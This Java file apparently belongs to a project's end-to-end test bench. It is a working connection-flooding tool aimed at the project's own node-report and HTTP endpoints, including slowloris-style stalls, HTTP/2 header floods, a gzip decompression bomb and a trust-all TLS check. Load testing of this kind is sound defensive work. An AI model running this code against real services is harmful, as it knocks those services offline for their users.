package dev.tranche.e2e.bench.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.util.stream.Collectors.toMap;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.security.GeneralSecurityException;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * Opens connections to a port and holds them, each again as soon as it is closed. It runs as a
 * process of its own in the network of a node, so that it has the addresses of pods.
 */
public final class Flood {
  private static final String CONNECT = "/tranche.v1.NodeReports/Connect";
  private static final int STREAMS = 100;

  /** Each is five bytes on the wire, counts as 34, and costs a server more than a hundred. */
  private static final int FIELDS = 190;

  /** A token counts as well. Servers take 8 KiB. */
  private static final int FIELDS_BESIDE_TOKEN = 130;

  private static final byte[] REVIEW =
      "POST /review HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}".getBytes(US_ASCII);

  private static final Duration PAUSE = Duration.ofMillis(500);
  private static final int UNPACKED_MB = 300;

  private static final Set<Kind> HTTP1 =
      EnumSet.of(Kind.HEADS, Kind.SLOW, Kind.BUSY, Kind.HELD, Kind.SILENT);

  private final Kind kind;
  private final boolean tls;
  private final List<InetSocketAddress> targets;
  private final String token;
  private final AtomicInteger opened = new AtomicInteger();
  private final AtomicInteger closed = new AtomicInteger();

  /** What is sent over a connection. */
  enum Kind {
    /** A hundred requests of HTTP/2 whose bodies do not follow, with heads of many small fields. */
    STREAMS,
    /** The same as calls of a node, with its token. */
    NODE_STREAMS,
    /** A head or a body of HTTP/1.1 that does not end. */
    HEADS,
    /** A body of which a byte arrives each second. */
    SLOW,
    /** One request after the other, each answered. */
    BUSY,
    /** One request that is answered, then nothing. */
    HELD,
    /** Nothing. */
    SILENT,
    /** A packed message of a node that unpacks to {@value #UNPACKED_MB} MB. */
    PACKED,
    /** Calls of a node with tokens that are none. */
    TOKENS
  }

  private Flood(Kind kind, boolean tls, List<InetSocketAddress> targets, String token) {
    this.kind = kind;
    this.tls = tls;
    this.targets = targets;
    this.token = token;
  }

  /** {@code Flood KIND tls|plain HOST,… PORT CONNECTIONS SECONDS FROM,… TOKEN}. */
  public static void main(String[] args) throws Exception {
    var flood =
        new Flood(
            Kind.valueOf(args[0]),
            args[1].equals("tls"),
            Stream.of(args[2].split(","))
                .map(host -> new InetSocketAddress(host, Integer.parseInt(args[3])))
                .toList(),
            args[7]);
    int connections = flood.targets.size() * Integer.parseInt(args[4]);
    List<String> from = Arrays.asList(args[6].split(","));
    var senders = Executors.newVirtualThreadPerTaskExecutor();
    for (int i = 0; i < connections; i++) {
      int number = i;
      senders.execute(
          () -> flood.keepOpen(from.get(number / flood.targets.size() % from.size()), number));
    }
    Thread.sleep(Duration.ofSeconds(Integer.parseInt(args[5])));
    System.out.printf("opened %d, closed by it %d%n", flood.opened.get(), flood.closed.get());
    System.exit(0);
  }

  private void keepOpen(String from, int number) {
    while (!Thread.currentThread().isInterrupted()) {
      try (Socket socket = connect(from, targets.get(number % targets.size()))) {
        opened.incrementAndGet();
        // Answers are read, so that nobody waits for this side.
        Thread.startVirtualThread(() -> write(socket, number));
        read(socket);
        closed.incrementAndGet();
      } catch (IOException | GeneralSecurityException refused) {
        closed.incrementAndGet();
      }
      try {
        Thread.sleep(PAUSE);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  private Socket connect(String from, InetSocketAddress target)
      throws IOException, GeneralSecurityException {
    var socket = new Socket();
    socket.bind(new InetSocketAddress(InetAddress.ofLiteral(from), 0));
    socket.connect(target, 5_000);
    return tls ? handshake(socket, target.getPort()) : socket;
  }

  private Socket handshake(Socket socket, int port) throws IOException, GeneralSecurityException {
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {new AnyServer()}, new SecureRandom());
    SSLSocket secure = (SSLSocket) context.getSocketFactory().createSocket(socket, "x", port, true);
    var parameters = secure.getSSLParameters();
    parameters.setApplicationProtocols(new String[] {HTTP1.contains(kind) ? "http/1.1" : "h2"});
    secure.setSSLParameters(parameters);
    secure.startHandshake();
    return secure;
  }

  private void write(Socket socket, int number) {
    try {
      OutputStream out = socket.getOutputStream();
      out.write(first(number));
      out.flush();
      while (kind == Kind.SLOW || kind == Kind.BUSY) {
        Thread.sleep(PAUSE);
        out.write(kind == Kind.SLOW ? new byte[1] : REVIEW);
        out.flush();
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    } catch (IOException closedMeanwhile) {
      // The reader sees it, too.
    }
  }

  private byte[] first(int number) throws IOException {
    return switch (kind) {
      case STREAMS -> streams("/api/v1/summary", fields(FIELDS));
      case NODE_STREAMS -> streams(CONNECT, node(fields(FIELDS_BESIDE_TOKEN)));
      case HEADS -> head(number / targets.size() % 2 == 0);
      case SLOW ->
          "POST /review HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n".getBytes(US_ASCII);
      case BUSY -> REVIEW;
      case HELD -> "GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n".getBytes(US_ASCII);
      case SILENT -> new byte[0];
      case PACKED -> packed();
      case TOKENS -> tokens();
    };
  }

  private static Map<String, String> fields(int count) {
    return IntStream.range(0, count)
        .boxed()
        .collect(toMap(i -> "" + (char) ('a' + i % 26) + (char) ('0' + i / 26), i -> "y"));
  }

  private Map<String, String> node(Map<String, String> more) {
    var headers = new TreeMap<>(more);
    headers.put("authorization", "Bearer " + token);
    headers.put("content-type", "application/grpc");
    headers.put("te", "trailers");
    return headers;
  }

  private static byte[] streams(String path, Map<String, String> headers) {
    var out = new ByteArrayOutputStream();
    out.writeBytes(Http2Frames.begin());
    for (int i = 0; i < STREAMS; i++) {
      out.writeBytes(Http2Frames.head(2 * i + 1, path, headers));
    }
    return out.toByteArray();
  }

  private static byte[] head(boolean unfinished) {
    String head =
        "POST /review HTTP/1.1\r\nhost: x\r\n" + ("x: " + "y".repeat(120) + "\r\n").repeat(60);
    String whole =
        unfinished
            ? head
            : head
                + "content-type: application/json\r\ncontent-length: 4000000\r\n\r\n"
                + " ".repeat(100_000);
    return whole.getBytes(US_ASCII);
  }

  private byte[] packed() throws IOException {
    var zipped = new ByteArrayOutputStream();
    try (var zip = new GZIPOutputStream(zipped)) {
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < UNPACKED_MB; i++) {
        zip.write(zeros);
      }
    }
    var message = new ByteArrayOutputStream();
    message.write(1);
    int length = zipped.size();
    message.writeBytes(
        new byte[] {
          (byte) (length >> 24), (byte) (length >> 16), (byte) (length >> 8), (byte) length
        });
    message.writeBytes(zipped.toByteArray());
    var out = new ByteArrayOutputStream();
    out.writeBytes(Http2Frames.begin());
    out.writeBytes(Http2Frames.head(1, CONNECT, node(Map.of("grpc-encoding", "gzip"))));
    out.writeBytes(Http2Frames.data(1, message.toByteArray()));
    return out.toByteArray();
  }

  private static byte[] tokens() {
    var out = new ByteArrayOutputStream();
    out.writeBytes(Http2Frames.begin());
    List<String> tokens = List.of("Bearer ", "", "Bearer  ", "Bearer a b", "Basic eA==");
    for (int i = 0; i < STREAMS; i++) {
      var headers =
          Map.of(
              "content-type",
              "application/grpc",
              "te",
              "trailers",
              "authorization",
              tokens.get(i % tokens.size()));
      out.writeBytes(Http2Frames.head(2 * i + 1, CONNECT, headers));
    }
    return out.toByteArray();
  }

  private void read(Socket socket) throws IOException {
    InputStream in = socket.getInputStream();
    byte[] buffer = new byte[16_384];
    while (in.read(buffer) >= 0) {
      // Only the end counts.
    }
  }

  /** An attacker does not mind who serves. */
  private static final class AnyServer implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
